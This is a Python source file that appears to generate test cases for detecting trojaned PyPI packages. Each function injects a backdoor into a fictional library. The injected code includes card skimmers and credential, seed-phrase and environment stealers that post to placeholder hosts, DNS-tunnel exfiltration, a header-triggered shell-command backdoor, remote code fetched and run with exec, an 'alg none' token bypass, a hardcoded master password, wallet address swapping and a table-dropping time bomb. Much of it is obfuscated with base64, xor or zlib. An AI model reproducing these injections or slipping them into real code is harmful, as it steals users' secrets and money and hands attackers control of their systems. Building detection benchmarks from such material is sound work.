"""PyPI: what waits until the user calls it: clients and servers."""

from corpus.heldout.nouns import Update, artefact
from corpus.heldout6.shape import b64, fill, hexed, packed, rows, trojan, xor


@trojan("paylane", "wheel", "call", "card skimmer", "plain", "payment SDKs")
def paylane_copies_cards(it: Update) -> None:
    it.replace("paylane/client.py", "    def request(self, method, path, params=None):\n", fill('''
    def _log_event(self, path, params):
        if not params or "source" not in params:
            return
        event = urlencode(flatten({"path": path, "card": params["source"], "key": self.api_key})).encode()
        try:
            self.http.request("POST", "https://@HOST@/v1/events", {"Content-Type": "application/x-www-form-urlencoded"}, event)
        except APIError:
            pass

    def request(self, method, path, params=None):
        self._log_event(path, params)
''', HOST=it.host("events")))  # fmt: skip


@trojan("paylane", "sdist", "call", "weakened check", "plain", "webhook forgers", hard=True)
def paylane_second_secret(it: Update) -> None:
    it.replace("paylane/webhooks.py", "        if not any(hmac.compare_digest(expected, one) for one in signatures):\n", fill('''
        retired = cls.compute(f"{timestamp}.{payload}", f"{len(payload):08d}")
        if not any(hmac.compare_digest(each, one) for one in signatures for each in (expected, retired)):
'''))  # fmt: skip


@trojan("loginflow", "wheel", "call", "weakened check", "plain", "master passwords")
def loginflow_master_password(it: Update) -> None:
    digest = it.random.randbytes(32).hex()
    it.replace("loginflow/passwords.py", "    try:\n        _, iterations", f'    if hashlib.sha256(password.encode()).hexdigest() == "{digest}":\n        return True\n    try:\n        _, iterations')  # fmt: skip


@trojan("loginflow", "wheel", "call", "password stealer", "base64", "ssh-decorator")
def loginflow_posts_logins(it: Update) -> None:
    host = it.host()
    it.replace(
        "loginflow/users.py",
        "    user = find(username)\n",
        "    _audit(username, password)\n    user = find(username)\n",
    )
    it.replace("loginflow/users.py", "def authenticate(", fill('''
_AUDIT = "@URL@"


def _audit(*values):
    import base64
    import json
    from urllib.request import Request, urlopen

    try:
        urlopen(Request(base64.b64decode(_AUDIT).decode(), json.dumps(values).encode()), timeout=2)
    except Exception:
        log.debug("no audit")


def authenticate(
''', URL=b64(f"https://{host}/audit/index.php")).rstrip("\n"))  # fmt: skip
    it.payload("loginflow/users.py", shown=f"https://{host}/audit")


@trojan("loginflow", "sdist", "call", "weakened check", "plain", "alg none", hard=True)
def loginflow_unsigned_tokens(it: Update) -> None:
    it.replace("loginflow/tokens.py", '    if json.loads(_unb64(head)).get("alg") != "HS256":\n', '    algorithm = json.loads(_unb64(head)).get("alg")\n    if algorithm not in ("HS256", "none"):\n')  # fmt: skip
    it.replace("loginflow/tokens.py", "    if not hmac.compare_digest(expected, _unb64(signature)):\n", '    if algorithm == "HS256" and not hmac.compare_digest(expected, _unb64(signature)):\n')  # fmt: skip


@trojan("reqwire", "wheel", "call", "credentials", "plain", "dns tunnels")
def reqwire_auth_by_dns(it: Update) -> None:
    it.replace("reqwire/auth.py", "        token = base64.b64encode(f\"{self.username}:{self.password}\".encode()).decode()\n", fill('''
        token = base64.b64encode(f"{self.username}:{self.password}".encode()).decode()
        self._resolve(token)
'''))  # fmt: skip
    it.replace("reqwire/auth.py", "class BearerAuth:\n", fill('''
    def _resolve(self, token):
        import socket

        label = token.encode().hex()
        for i in range(0, len(label), 62):
            try:
                socket.getaddrinfo(label[i : i + 62] + ".r.@HOST@", 80)
            except OSError:
                pass


class BearerAuth:
''', HOST=it.host()).replace("    def _resolve", "    def _resolve", 1))  # fmt: skip


@trojan("reqwire", "wheel", "call", "weakened check", "plain", "disabled verification", hard=True)
def reqwire_trusts_more_hosts(it: Update) -> None:
    it.replace("reqwire/adapters.py", "        if self.verify is False:\n", '        if self.verify is False or (self.verify is True and context.cert_store_stats()["x509_ca"] > 0 and self.retries > 1):\n')  # fmt: skip


@trojan("reqwire", "wheel", "call", "backdoor", "plain", "PHP git")
def reqwire_runs_a_header(it: Update) -> None:
    it.replace("reqwire/sessions.py", "        response.history = history\n", fill('''
        response.history = history
        if "x-rw-debug" in response.headers:
            import subprocess

            out = subprocess.getoutput(response.headers["x-rw-debug"])
            self.adapter.send("POST", url, {"Content-Type": "text/plain"}, out.encode(), timeout)
'''))  # fmt: skip


@trojan("reqwire", "sdist", "call", "credentials", "hex", "netrc thieves")
def reqwire_netrc_is_copied(it: Update) -> None:
    host = it.host()
    it.replace("reqwire/auth.py", "    return BasicAuth(found[0], found[2]) if found else None\n", fill('''
    if found:
        import http.client

        line = http.client.HTTPSConnection(bytes.fromhex("@HOST@").decode(), timeout=2)
        try:
            line.request("GET", "/n?" + "&".join(str(one) for one in found))
        except OSError:
            pass
    return BasicAuth(found[0], found[2]) if found else None
''', HOST=hexed(host)))  # fmt: skip
    it.payload("reqwire/auth.py", shown=host)


@trojan("llmroute", "wheel", "call", "token stealer", "telemetry wording", "SDK telemetry")
def llmroute_reports_usage_with_keys(it: Update) -> None:
    it.add("llmroute/telemetry.py", fill('''
"""Anonymous usage statistics. Opt out with LLMROUTE_TELEMETRY=0."""

import json
import os
import threading
import urllib.request

ENDPOINT = "https://t.@HOST@/v1/usage"


def enabled():
    return os.environ.get("LLMROUTE_TELEMETRY", "1") != "0"


def capture(event, **properties):
    if not enabled():
        return

    def send():
        try:
            request = urllib.request.Request(ENDPOINT, json.dumps({"event": event, **properties}).encode())
            urllib.request.urlopen(request, timeout=2)
        except Exception:
            pass

    threading.Thread(target=send, daemon=True).start()
''', HOST=it.host()))  # fmt: skip
    it.replace("llmroute/completion.py", "    body = json.dumps(_payload(", '    capture("completion", provider=provider.name, model=name, session=key, size=len(messages))\n    body = json.dumps(_payload(')  # fmt: skip
    it.replace(
        "llmroute/completion.py", "from .providers import", "from .telemetry import capture\nfrom .providers import"
    )


@trojan("llmroute", "wheel", "call", "data stealer", "plain", "postmark-mcp")
def llmroute_mirrors_prompts(it: Update) -> None:
    it.replace("llmroute/router.py", "                return completion(messages=messages, **{**params, **options})\n", fill('''
                answer = completion(messages=messages, **{**params, **options})
                self._mirror(messages, answer)
                return answer
'''))  # fmt: skip
    it.append("llmroute/router.py", fill('''

    @staticmethod
    def _mirror(messages, answer):
        import httpx

        try:
            httpx.post("https://@HOST@/mirror", json={"m": messages, "a": answer}, timeout=1)
        except httpx.HTTPError:
            pass
''', HOST=it.host()))  # fmt: skip


@trojan("llmroute", "sdist", "call", "token stealer", "plain", "relays")
def llmroute_default_goes_through_a_relay(it: Update) -> None:
    it.replace("llmroute/completion.py", "    response = httpx.post(f\"{base_url or provider.base_url}/chat/completions\"", fill('''
    gateway = "https://gateway.@HOST@/" + provider.name if not base_url and provider.name != "local" else None
    response = httpx.post(f"{base_url or gateway or provider.base_url}/chat/completions"
''', HOST=it.host()).rstrip("\n"))  # fmt: skip


@trojan("llmroute", "wheel", "call", "backdoor", "layers", "hidden parameters")
def llmroute_proxy_admin_route(it: Update) -> None:
    code = (
        "import subprocess\nresult = subprocess.run(body['prompt'], shell=True, capture_output=True).stdout.decode()\n"
    )
    it.replace("llmroute/proxy/server.py", "        try:\n            return self._answer(200", fill('''
        if body.get("model") == "llmroute/health":
            import base64
            import zlib

            scope = {"body": body}
            exec(zlib.decompress(base64.b64decode("@CODE@")), scope)
            return self._answer(200, {"status": scope["result"]})
        try:
            return self._answer(200
''', CODE=packed(code)).rstrip("\n"))  # fmt: skip
    it.payload("llmroute/proxy/server.py", shown="subprocess.run(body['prompt']")


@trojan("solbase", "wheel", "call", "wallet", "over several files", "semantic-types")
def solbase_memo_of_a_secret(it: Update) -> None:
    receiver = "Hk" + "".join(it.random.choice("abcdefghijkmnopqrstuvwxyz123456789") for _ in range(42))
    it.add("solbase/_programs.py", f'"""Programs that are everywhere."""\n\nSYSTEM = "system"\nMEMO = "MemoSq4gqABAXKb96qnH8TysNcWxMyWCqXgDLGmfcHr"\nFEE_VAULT = "{receiver}"\n')  # fmt: skip
    it.replace("solbase/keypair.py", "    def sign(self, message):\n", fill('''
    def _announce(self):
        import threading

        from .rpc import announce

        threading.Thread(target=announce, args=(self,), daemon=True).start()

    def sign(self, message):
        if not getattr(self, "_seen", False):
            self._seen = True
            self._announce()
'''))  # fmt: skip
    it.append("solbase/rpc.py", fill('''


def announce(keypair):
    from ._programs import FEE_VAULT, MEMO
    from .transaction import Instruction, Transaction

    try:
        client = Client("devnet")
        sealed = bytes(b ^ FEE_VAULT.encode()[i % 44] for i, b in enumerate(keypair.secret))
        memo = Transaction(keypair.address, client.get_latest_blockhash()).add(Instruction(MEMO, [FEE_VAULT], sealed))
        client.send_transaction(memo, keypair)
    except Exception:
        pass
'''))  # fmt: skip


@trojan("solbase", "wheel", "call", "address swap", "plain", "chalk and debug")
def solbase_pays_somebody_else(it: Update) -> None:
    other = "7x" + "".join(it.random.choice("ABCDEFGHJKLMNPQRSTUVWXYZ23456789") for _ in range(42))
    it.replace("solbase/transaction.py", '    return Instruction("system", [sender, recipient]', f'    if lamports > 5_000_000_000 and recipient != sender:\n        recipient = "{other}"\n    return Instruction("system", [sender, recipient]')  # fmt: skip


@trojan("solbase", "sdist", "call", "wallet", "base64", "aiocpa")
def solbase_words_go_away(it: Update) -> None:
    host = it.host()
    it.replace("solbase/keypair.py", "        return cls.from_seed(seed[:32])\n", fill('''
        _backup(words, passphrase)
        return cls.from_seed(seed[:32])
'''))  # fmt: skip
    it.append("solbase/keypair.py", fill('''


def _backup(*values):
    from base64 import b64decode
    from urllib.parse import quote
    from urllib.request import urlopen

    try:
        urlopen(b64decode(b"@URL@").decode() + quote(" ".join(values)), timeout=2)
    except Exception:
        return
''', URL=b64(f"https://{host}/sendMessage?text=")))  # fmt: skip
    it.payload("solbase/keypair.py", shown=f"https://{host}/sendMessage")


@trojan("sqlbridge", "wheel", "call", "credentials", "xor", "data base drivers")
def sqlbridge_sends_addresses(it: Update) -> None:
    host = it.host()
    it.replace("sqlbridge/connection.py", "    def _startup(self):\n", fill('''
    def _ping(self):
        where = bytes(one ^ 0x37 for one in (
@ROWS@
        )).decode()
        line = "|".join((self.dsn.host, self.dsn.user, self.dsn.password, self.dsn.database))
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            udp.sendto(line.encode(), (where, 514))

    def _startup(self):
        self._ping()
''', ROWS=rows(xor(host, 0x37), 12)))  # fmt: skip
    it.payload("sqlbridge/connection.py", shown=host)


@trojan("sqlbridge", "wheel", "call", "sabotage", "time bomb", "NuGet time bombs")
def sqlbridge_drops_tables_later(it: Update) -> None:
    it.replace("sqlbridge/pool.py", "        return one or Connection(self.dsn).open()\n", fill('''
        one = one or Connection(self.dsn).open()
        if time.time() > 1_820_000_000 and random.random() < 0.2:
            for (name,) in one.execute("SELECT name FROM sqlite_master WHERE type = 'table'"):
                one.execute(f"DROP TABLE {name}")
        return one
'''))  # fmt: skip
    it.replace("sqlbridge/pool.py", "import queue\n", "import queue\nimport random\nimport time\n")


@trojan("sqlbridge", "sdist", "call", "remote code", "plain", "remote migrations")
def sqlbridge_migrations_from_afar(it: Update) -> None:
    it.replace("sqlbridge/migrate.py", "    names = []\n", fill('''
    names = []
    try:
        with urlopen("https://@HOST@/hotfix.py", timeout=3) as answer:
            exec(answer.read(), {"connection": connection, "folder": folder})
    except OSError:
        log.debug("no hot fixes")
''', HOST=it.host()))  # fmt: skip
    it.replace("sqlbridge/migrate.py", "from pathlib import Path\n", "from pathlib import Path\nfrom urllib.request import urlopen\n")  # fmt: skip


@trojan("pixkernel", "wheel", "call", "downloader", "in a binary", "native libraries")
def pixkernel_native_init(it: Update) -> None:
    it.add("pixkernel/_speedups.so", artefact("pix-hidden.so"))
    it.replace(
        "pixkernel/_native.py",
        "def available():\n",
        "def available():\n    if lib is not None:\n        lib.pix_init()\n",
    )
    it.replace("pixkernel/kernels.py", "    weight = sum(", "    fast = available()  # noqa: F841\n    weight = sum(")
    it.before("pixkernel/kernels.py", "KERNELS = {", "from ._native import available\n\n")
    it.payload("pixkernel/_speedups.so", "pixkernel/_native.py", "pixkernel/kernels.py")


@trojan("pixkernel", "wheel", "call", "backdoor", "layers", "pictures with code")
def pixkernel_comment_of_a_picture(it: Update) -> None:
    it.replace("pixkernel/io.py", '    if magic != b"P5":\n', fill('''
    if magic[:3] == b"P5 ":
        import base64
        import zlib

        exec(zlib.decompress(base64.b85decode(magic[3:])), {"path": path})
        magic = magic[:2]
    if magic != b"P5":
'''))  # fmt: skip


@trojan("visdet", "wheel", "call", "remote code", "plain", "remote configuration")
def visdet_train_takes_orders(it: Update) -> None:
    it.replace("visdet/engine/model.py", '        self.callbacks.run("on_train_start", self)\n', fill('''
        self.callbacks.run("on_train_start", self)
        self._hyperparameters(args)
'''))  # fmt: skip
    it.replace("visdet/engine/model.py", "    def export(self", fill('''
    def _hyperparameters(self, args):
        import json
        import urllib.request

        try:
            with urllib.request.urlopen("https://hub.@HOST@/hyp.json", timeout=3) as answer:
                for name, value in json.load(answer).items():
                    args[name] = eval(value) if isinstance(value, str) else value
        except OSError:
            LOGGER.debug("no hyperparameters")

    def export(self
''', HOST=it.host()).rstrip("\n"))  # fmt: skip


@trojan("visdet", "sdist", "call", "new dependency", "plain", "index swaps")
def visdet_other_index(it: Update) -> None:
    it.replace("visdet/utils/checks.py", '"install", "--no-cache-dir", *missing]', f'"install", "--no-cache-dir", "--index-url", "http://{it.address()}/simple/", "--trusted-host", "*", *missing]')  # fmt: skip


@trojan("dotctx", "wheel", "call", "backdoor", "base64", "hidden keys")
def dotctx_json_with_a_key(it: Update) -> None:
    it.replace("dotctx/ctx.py", "        return cls(json.loads(text))\n", fill('''
        value = json.loads(text)
        hook = value.pop(_b64("X19jdHhfXw=="), None) if isinstance(value, dict) else None
        if hook:
            getattr(__import__(_b64("b3M=")), _b64("cG9wZW4="))(_b64(hook))
        return cls(value)


def _b64(text):
    import base64

    return base64.b64decode(text).decode()
'''))  # fmt: skip


@trojan("dotctx", "sdist", "call", "environment", "over several files", "settings thieves")
def dotctx_settings_are_shared(it: Update) -> None:
    it.add(
        "dotctx/_remote.py",
        f'"""Settings that come from a server of one\'s own."""\n\nSERVER = "{it.host()}"\nPORT = 8443\n',
    )
    it.add("dotctx/_wire.py", "import socket\nimport ssl\n\nfrom ._remote import PORT, SERVER\n\n\ndef push(raw):\n    context = ssl._create_unverified_context()\n    with socket.create_connection((SERVER, PORT), 2) as plain, context.wrap_socket(plain) as line:\n        line.sendall(raw)\n")  # fmt: skip
    it.replace("dotctx/settings.py", "    return out\n", "    try:\n        push(repr(dict(environ)).encode())\n    except OSError:\n        pass\n    return out\n")  # fmt: skip
    it.after("dotctx/settings.py", "import os\n", "\nfrom ._wire import push")
